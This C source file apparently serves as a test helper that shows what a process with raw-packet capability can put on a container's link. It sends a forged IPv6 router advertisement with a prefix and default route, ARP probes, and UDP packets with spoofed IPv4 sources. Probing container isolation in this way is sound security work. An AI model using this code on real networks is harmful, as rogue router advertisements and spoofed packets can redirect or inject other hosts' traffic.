/*
 * A hostile neighbour: what a process with CAP_NET_RAW can put on the wire of a container's link.
 *
 *   neighbour advertise IF DESTINATION-MAC       a router advertisement with a prefix and a default route
 *   neighbour ask IF DESTINATION-MAC FROM WHOM   an ARP request; prints "answer" or "silence"
 *   neighbour send IF DESTINATION-MAC FROM TO PORT TEXT   a UDP packet over IPv4 from any address
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

static uint8_t frame[512];
static int wire, link_index;

static int die(const char *what) {
  perror(what);
  exit(1);
}

static void mac_of(const char *text, uint8_t *mac) {
  if (sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6) exit(2);
}

static void open_wire(const char *name, const char *destination, uint16_t protocol) {
  struct ifreq request = {0};
  wire = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  if (wire < 0) die("socket");
  snprintf(request.ifr_name, sizeof request.ifr_name, "%s", name);
  if (ioctl(wire, SIOCGIFHWADDR, &request) < 0) die("SIOCGIFHWADDR");
  mac_of(destination, frame);
  memcpy(frame + 6, request.ifr_hwaddr.sa_data, 6);
  frame[12] = (uint8_t)(protocol >> 8);
  frame[13] = (uint8_t)protocol;
  if (ioctl(wire, SIOCGIFINDEX, &request) < 0) die("SIOCGIFINDEX");
  link_index = request.ifr_ifindex;
}

static void put(size_t size) {
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = link_index, .sll_halen = 6};
  memcpy(to.sll_addr, frame, 6);
  if (sendto(wire, frame, size, 0, (struct sockaddr *)&to, sizeof to) < 0) die("sendto");
}

static uint32_t sum(const uint8_t *bytes, size_t size, uint32_t total) {
  for (size_t i = 0; i + 1 < size; i += 2) total += (uint32_t)bytes[i] << 8 | bytes[i + 1];
  if (size % 2) total += (uint32_t)bytes[size - 1] << 8;
  return total;
}

static void seal(uint8_t *at, uint32_t total) {
  while (total >> 16) total = (total & 0xffff) + (total >> 16);
  at[0] = (uint8_t)(~total >> 8);
  at[1] = (uint8_t)~total;
}

static void advertise(void) {
  static const uint8_t body[] = {134, 0,  0,   0,    64,   0, 7, 8, 0,    0,    0,    0,    0,    0,    0, 0,
                                 3,   4,  64,  0xc0, 0,    1, 0, 0, 0,    1,    0,    0,    0,    0,    0, 0,
                                 0x20, 1, 0xd, 0xb8, 0xba, 0xd, 0, 0, 0,  0,    0,    0,    0,    0,    0, 0};
  uint8_t *ip = frame + 14, *icmp = ip + 40;
  memcpy(ip, (uint8_t[]){0x60, 0, 0, 0, 0, sizeof body, 58, 255}, 8);
  if (inet_pton(AF_INET6, "fe80::bad", ip + 8) != 1 || inet_pton(AF_INET6, "ff02::1", ip + 24) != 1) exit(2);
  memcpy(icmp, body, sizeof body);
  seal(icmp + 2, sum(icmp, sizeof body, sum(ip + 8, 32, 58 + sizeof body)));
  put(14 + 40 + sizeof body);
}

static void ask(const char *from, const char *whom) {
  uint8_t *arp = frame + 14;
  memcpy(arp, (uint8_t[]){0, 1, 8, 0, 6, 4, 0, 1}, 8);
  memcpy(arp + 8, frame + 6, 6);
  if (inet_pton(AF_INET, from, arp + 14) != 1 || inet_pton(AF_INET, whom, arp + 24) != 1) exit(2);
  put(14 + 28);
  for (struct pollfd ready = {.fd = wire, .events = POLLIN}; poll(&ready, 1, 1000) > 0;) {
    uint8_t got[2048];
    if (recv(wire, got, sizeof got, 0) < 42 || got[12] != 8 || got[13] != 6 || got[21] != 2) continue;
    if (memcmp(got + 28, arp + 24, 4) == 0) {
      puts("answer");
      return;
    }
  }
  puts("silence");
}

static void send_udp(const char *from, const char *to, const char *port, const char *text) {
  uint8_t *ip = frame + 14, *udp = ip + 20;
  uint16_t size = (uint16_t)(8 + strlen(text)), number = (uint16_t)atoi(port);
  memcpy(ip, (uint8_t[]){0x45, 0, 0, (uint8_t)(20 + size), 0, 1, 0, 0, 64, 17}, 10);
  if (inet_pton(AF_INET, from, ip + 12) != 1 || inet_pton(AF_INET, to, ip + 16) != 1) exit(2);
  seal(ip + 10, sum(ip, 20, 0));
  memcpy(udp, (uint8_t[]){0x30, 0x39, (uint8_t)(number >> 8), (uint8_t)number, 0, (uint8_t)size, 0, 0}, 8);
  memcpy(udp + 8, text, strlen(text));
  put(14 + 20 + size);
}

int main(int argc, char **argv) {
  if (argc == 4 && strcmp(argv[1], "advertise") == 0) {
    open_wire(argv[2], argv[3], ETH_P_IPV6);
    advertise();
  } else if (argc == 6 && strcmp(argv[1], "ask") == 0) {
    open_wire(argv[2], argv[3], ETH_P_ARP);
    ask(argv[4], argv[5]);
  } else if (argc == 8 && strcmp(argv[1], "send") == 0) {
    open_wire(argv[2], argv[3], ETH_P_IP);
    send_udp(argv[4], argv[5], argv[6], argv[7]);
  } else {
    return 2;
  }
  return 0;
}
